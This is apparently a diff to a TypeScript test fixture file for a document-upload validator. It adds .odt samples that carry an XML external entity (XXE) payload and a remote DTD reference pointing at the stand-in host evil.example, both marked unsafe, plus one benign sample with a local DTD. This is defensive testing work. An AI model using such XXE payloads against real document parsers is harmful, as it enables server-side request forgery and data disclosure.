@@ -343,6 +343,34 @@ export function hostileFiles(): HostileFile[] {
       code: unsafe
     },
     {
+      label: 'an .odt whose formula declares an external entity (XXE)',
+      name: 'cv.odt',
+      content: make.odt({
+        extra: [
+          {
+            name: 'Object 1/content.xml',
+            data: Buffer.from('<?xml version="1.0"?><!DOCTYPE math [<!ENTITY e SYSTEM "http://evil.example/">]><math>&e;</math>')
+          }
+        ]
+      }),
+      code: unsafe
+    },
+    {
+      label: 'an .odt whose formula names a DTD on the web',
+      name: 'cv.odt',
+      content: make.odt({
+        extra: [
+          {
+            name: 'Object 1/content.xml',
+            data: Buffer.from(
+              '<?xml version="1.0"?><!DOCTYPE math:math PUBLIC "-//W3C//DTD MathML 2.0//EN" "http://evil.example/math.dtd"><math:math/>'
+            )
+          }
+        ]
+      }),
+      code: unsafe
+    },
+    {
       label: 'an encrypted .odt',
       name: 'cv.odt',
       content: make.odt({
@@ -568,6 +596,21 @@ export function plainCvs(): { label: string; name: string; content: Buffer; form
       name: 'cv.odt',
       content: make.odt({
         body: '<text:p><text:a xlink:href="https://example.org/">me</text:a></text:p><draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>'
+      }),
+      format: 'odt'
+    },
+    {
+      label: "an ODT with an OpenOffice formula naming its bare 'math.dtd'",
+      name: 'cv.odt',
+      content: make.odt({
+        extra: [
+          {
+            name: 'Object 1/content.xml',
+            data: Buffer.from(
+              '<?xml version="1.0"?><!DOCTYPE math:math PUBLIC "-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "math.dtd"><math:math/>'
+            )
+          }
+        ]
       }),
       format: 'odt'
     },
